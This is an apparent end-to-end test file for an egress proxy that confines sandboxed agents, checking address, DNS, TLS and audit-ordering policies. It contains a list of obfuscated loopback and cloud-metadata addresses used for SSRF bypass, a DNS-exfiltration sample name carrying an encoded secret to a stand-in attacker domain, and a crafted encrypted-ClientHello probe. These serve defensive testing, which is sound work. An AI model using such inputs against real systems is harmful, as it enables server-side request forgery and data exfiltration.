"""If these fail, an agent in a box reaches what policy did not let it reach, or tells a name to
whoever answers for it.
"""

import asyncio
import socket
import ssl

import dns.rcode
import pytest

import needles
from e2e.egress.asking import cell, connect, first, reached
from e2e.egress.rules import FRONT, INSIDE, OPEN
from e2e.egress.stage import Refused, code_in
from portcullis.audit.log import AuditLog
from portcullis.core.errors import Problem
from portcullis.execution.egress.dial import Dialer

pytestmark = pytest.mark.anyio
LITERALS = (
    *("127.0.0.1", "127.1", "2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "017700000001"),
    *("[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]"),
    *("127.0.0.1.", "0", "169.254.169.254", "[fe80::1%25eth0]", "1.2.3.0x4", "%31.0.0.1"),
)


@cell("egress", "request")
async def test_an_address_is_no_destination_in_any_notation(stage):
    before = reached(stage)
    for literal in LITERALS:
        assert await connect(stage, f"{literal}:{stage.tls}") == "PC5050", literal
        url = f"GET http://{literal}:{stage.plain}/ HTTP/1.1\r\nhost: x\r\n\r\n"
        assert code_in(await first(stage, url)) in {"PC5050", "PC1011"}, literal
    assert reached(stage) == before
    await stage.recorded("PC5050", route="egress", method="CONNECT", principal="coder")


@cell("egress", "request")
@cell("authorize", "request")
async def test_policy_is_asked_before_dns(stage, monkeypatch):
    asked, real = [], socket.getaddrinfo

    def getaddrinfo(host, *rest, **options):
        asked.append(host)
        return real(host, *rest, **options)

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    told = "c2VjcmV0.exfil.attacker.test"
    assert await connect(stage, f"{told}:443") == "PC3016"
    assert await connect(stage, f"{OPEN}:{stage.plain}") == "PC3017"
    assert await connect(stage, f"{OPEN}:{stage.tls}", "walled") == "PC3016"
    for answer in await stage.resolve(told, "1.0.0.127.in-addr.arpa", f"{told}.{OPEN}"):
        assert answer.rcode() == dns.rcode.NXDOMAIN
    assert not [host for host in asked if "attacker" in str(host) or "allowed" in str(host)]
    await stage.recorded("PC3016", method="DNS", name="?")
    await stage.recorded("PC3017", method="CONNECT", check="authorize")
    assert needles.files_with("c2VjcmV0", stage.stage.config.parent / "state") == []


@cell("egress", "request")
async def test_an_allowed_name_at_a_private_address_is_not_reached(stage):
    assert await connect(stage, f"{INSIDE}:{stage.tls}") == "PC5052"
    assert (await stage.resolve(INSIDE))[0].rcode() == dns.rcode.NXDOMAIN
    await stage.recorded("PC5052", type="result", verdict="error")


@cell("egress", "result")
async def test_dns_is_answered_for_allowed_names_with_their_addresses_alone(stage):
    found = (await stage.resolve(OPEN))[0]
    assert [str(one) for one in found.answer[0]] == ["127.0.0.1"]
    for kind in ("AAAA", "TXT", "HTTPS", "MX"):
        other = (await stage.resolve(OPEN, kind=kind))[0]
        assert (other.rcode(), other.answer) == (dns.rcode.NOERROR, [])
    event = await stage.recorded("", method="DNS", name=OPEN, verdict="allow")
    assert event.risk == "read"
    bad = b"POST /dns-query HTTP/1.1\r\nhost: g\r\ncontent-type: application/dns-message\r\n"
    assert code_in((await stage.ask(bad + b"content-length: 3\r\n\r\nabc")).decode()) == "PC5060"


async def shaken(stage, name, plain=b"", change=lambda hello: hello):
    """Begin TLS (or say ``plain``) through a tunnel to ``OPEN``; what comes back."""
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ssl._create_unverified_context().wrap_bio(into, out, server_hostname=name)  # noqa: S323
    with pytest.raises(ssl.SSLWantReadError):
        tls.do_handshake()
    async with stage.tunnel() as (reader, writer):
        hello = plain or change(out.read())
        for start in range(0, len(hello), 100):
            writer.write(hello[start : start + 100])
            await writer.drain()
        return await asyncio.wait_for(reader.read(-1), 10)


def hidden(hello):
    """The ClientHello with an extension for an encrypted one (RFC 9849)."""
    body = bytearray(hello[9:])
    at = 34
    at += 1 + body[at]
    at += 2 + int.from_bytes(body[at : at + 2])
    at += 1 + body[at]
    length = int.from_bytes(body[at : at + 2])
    more = b"\xfe\x0d\x00\x04\x00\x00\x00\x00"
    body[at : at + 2] = (length + len(more)).to_bytes(2)
    body += more
    message = b"\x01" + len(body).to_bytes(3) + bytes(body)
    return b"\x16\x03\x01" + len(message).to_bytes(2) + message


@cell("egress", "stream")
async def test_a_tunnel_carries_only_tls_that_names_its_host(stage):
    before = reached(stage)
    assert await shaken(stage, FRONT) == b"\x15\x03\x03\x00\x02\x02\x70"
    await stage.recorded("PC5053", type="result")
    assert (await shaken(stage, OPEN, change=hidden))[:1] == b"\x15"
    await stage.recorded("PC5054", type="result")
    asked = f"GET / HTTP/1.1\r\nhost: {OPEN}\r\n\r\n".encode()
    assert await shaken(stage, OPEN, plain=asked) == b""
    await stage.recorded("PC5055", type="result")
    assert reached(stage) == before


@cell("egress", "stream")
async def test_nothing_is_connected_before_the_record_however_often_it_was(stage, monkeypatch):
    dialled, recording, real = [], asyncio.Event(), (Dialer.dial, AuditLog.durable)

    async def dial(self, *where, **options):
        dialled.append(where)
        return await real[0](self, *where, **options)

    async def slow(self, event):
        await recording.wait()
        await real[1](self, event)

    async def broken(self, event):
        raise Problem("PC6001", "the disk is full")

    async with stage.tunnel() as (reader, writer):
        writer.write(b"x")
        assert await asyncio.wait_for(reader.read(-1), 10) == b""  # it is over
    monkeypatch.setattr(Dialer, "dial", dial)
    monkeypatch.setattr(AuditLog, "durable", slow)
    async with stage.tunnel() as (_, writer):  # it may go ahead: the host was reached just now
        writer.write(b"\x16\x03\x01")
        await asyncio.sleep(0.05)
        assert dialled == []
        recording.set()
        await stage.until(lambda: dialled)
    monkeypatch.setattr(AuditLog, "durable", broken)
    async with stage.tunnel() as (reader, _):
        assert await asyncio.wait_for(reader.read(-1), 10) == b""
    with pytest.raises(Refused, match="PC6001"):  # whoever comes next is told
        async with stage.tunnel():
            pass
    assert len(dialled) == 1
